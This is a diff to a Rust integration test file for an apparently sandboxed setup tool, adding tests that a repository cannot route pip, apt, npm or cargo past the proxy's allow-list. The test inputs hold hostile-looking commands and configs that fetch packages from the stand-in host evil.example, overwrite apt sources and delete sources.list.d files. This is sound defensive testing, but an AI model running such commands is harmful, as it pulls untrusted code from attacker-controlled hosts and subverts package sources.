@@ -31,7 +31,6 @@ impl OutputSink for Output {
 
 /// An engine, one of its images, and the folder of what was learned about it.
 struct House {
-    engine: Engine,
     launcher: DockerLauncher,
     docker: Docker,
     image: PreparedImage,
@@ -49,8 +48,8 @@ impl House {
         let engine = Engine::find().await.unwrap();
         let image = Images::new(engine.clone()).prepare(image, &|line| eprintln!("{line}")).await.unwrap();
         let docker = Docker::connect_with_host(&engine.facts.address).unwrap();
-        let launcher = DockerLauncher::new(engine.clone(), "setup-tests");
-        Some(House { engine, launcher, docker, image, cache: tempfile::tempdir().unwrap() })
+        let launcher = DockerLauncher::new(engine, "setup-tests");
+        Some(House { launcher, docker, image, cache: tempfile::tempdir().unwrap() })
     }
 
     fn setup(&self, commands: &[&str], tree: &[(&str, &str)]) -> (Setup, TarStream) {
@@ -225,25 +224,87 @@ async fn a_rust_package_installs_through_the_proxy() {
     house.examine_and_remove(&done.image).await;
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn a_repository_cannot_extend_the_list_and_the_tool_says_why_at_once() {
-    let Some(house) = House::open("python").await else { return };
-    for (command, said) in [
-        ("pip install --index-url https://evil.example/simple six", "not on the allow-list"),
-        (
-            "curl -sS --proxy $http_proxy http://evil.example/ || python3 -c 'import urllib.request as u; print(u.urlopen(\"http://evil.example/\"))'",
-            "allow-list",
-        ),
-    ] {
-        let timed = format!(
-            "date +%s%N >/tmp/began; {command}; echo took $(( ($(date +%s%N) - $(cat /tmp/began)) / 1000000 )) ms"
-        );
-        let (tail, requests) = house.refused(&timed).await;
+/// Each `command` fetches from where the repository says. `control` is the same command through a proxy that is not
+/// there, which the kernel refuses at once: what is beyond its time is ours.
+async fn refuses(image: &str, cases: &[(&str, &[(&str, &str)], &str, &str)]) {
+    let Some(house) = House::open(image).await else { return };
+    for (command, tree, control, said) in cases {
+        let timed = |name: &str, command: &str| {
+            format!("b=$(date +%s%N); {command}; e=$(date +%s%N); echo {name} $(( (e - b) / 1000000 )) ms")
+        };
+        // Once before, so that neither of the two is the one that reads the programs from disk.
+        let all = format!("{control}; {}; {}; exit 9", timed("control", control), timed("took", command));
+        let (tail, requests) = match house.set_up(&[&all], tree).await {
+            Err(SetupError::Failed { tail, requests, .. }) => (tail, requests),
+            Err(other) => panic!("{command}: {other:?}"),
+            Ok(_) => panic!("{command} succeeded"),
+        };
+        let took = |name: &str| -> u64 {
+            let (_, rest) = tail.rsplit_once(&format!("\n{name} ")).unwrap_or_else(|| panic!("{command}: {tail}"));
+            rest.split(' ').next().unwrap().parse().unwrap()
+        };
+        eprintln!("{command}: refused after {} ms, without a proxy {} ms", took("took"), took("control"));
         assert!(tail.contains(said), "{command}: {tail}");
+        assert!(tail.contains("greenroom: proxy: `evil.example"), "{command}: {tail}");
         assert!(code(&requests).contains(&"host_not_allowed"), "{requests:?}");
-        let took: u64 = tail.rsplit_once("took ").unwrap().1.split(' ').next().unwrap().parse().unwrap();
-        eprintln!("{command}: refused after {took} ms");
+        assert!(requests.iter().all(|record| record.verdict != Verdict::Allowed), "{requests:?}");
+        assert!(took("took") < took("control") + 1000, "{command}: {tail}");
     }
+}
+
+const NO_PROXY_THERE: &str =
+    "https_proxy=http://127.0.0.1:1 HTTPS_PROXY=http://127.0.0.1:1 http_proxy=http://127.0.0.1:1";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_python_repository_cannot_extend_the_list() {
+    let elsewhere = "pip install --index-url https://evil.example/simple six";
+    let locked: &[(&str, &str)] = &[("requirements.txt", "https://evil.example/six-1.0-py3-none-any.whl\n")];
+    let source = "echo 'deb [trusted=yes] http://evil.example/debian x main' >/etc/apt/sources.list";
+    let quiet = "rm -f /etc/apt/sources.list.d/*";
+    refuses(
+        "python",
+        &[
+            (elsewhere, &[("f", "")], &format!("{NO_PROXY_THERE} {elsewhere}"), "403 `evil.example:443` is not on the"),
+            (
+                "pip install -r requirements.txt",
+                locked,
+                &format!("{NO_PROXY_THERE} pip install -r requirements.txt"),
+                "403 `evil.example:443` is not on the allow-list",
+            ),
+            (
+                &format!("{quiet}; {source}; apt-get update"),
+                &[("f", "")],
+                &format!("{quiet}; {source}; {NO_PROXY_THERE} apt-get update"),
+                "403  `evil.example:80` is not on the allow-list",
+            ),
+        ],
+    )
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_node_repository_cannot_extend_the_list() {
+    let tree: &[(&str, &str)] = &[
+        ("package.json", r#"{"name":"x","version":"1.0.0","dependencies":{"is-number":"7.0.0"}}"#),
+        (".npmrc", "registry=https://evil.example/\n"),
+    ];
+    refuses("node", &[("npm install", tree, &format!("{NO_PROXY_THERE} npm install"), "403")]).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_rust_repository_cannot_extend_the_list() {
+    let tree: &[(&str, &str)] = &[
+        (
+            "Cargo.toml",
+            "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nitoa = \"1\"\n",
+        ),
+        ("src/main.rs", "fn main() {}\n"),
+        (
+            ".cargo/config.toml",
+            "[source.crates-io]\nreplace-with = \"own\"\n[source.own]\nregistry = \"sparse+https://evil.example/\"\n",
+        ),
+    ];
+    refuses("rust", &[("cargo fetch", tree, &format!("{NO_PROXY_THERE} cargo fetch"), "response 403")]).await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -342,5 +403,4 @@ async fn a_set_up_is_made_once_and_background_processes_of_it_are_gone() {
             && labels.get("greenroom.run") == Some(&setup.run.to_string())
     };
     assert!(!left.iter().filter_map(|container| container.labels.as_ref()).any(ours));
-    assert!(house.engine.facts.cpus > 0);
 }
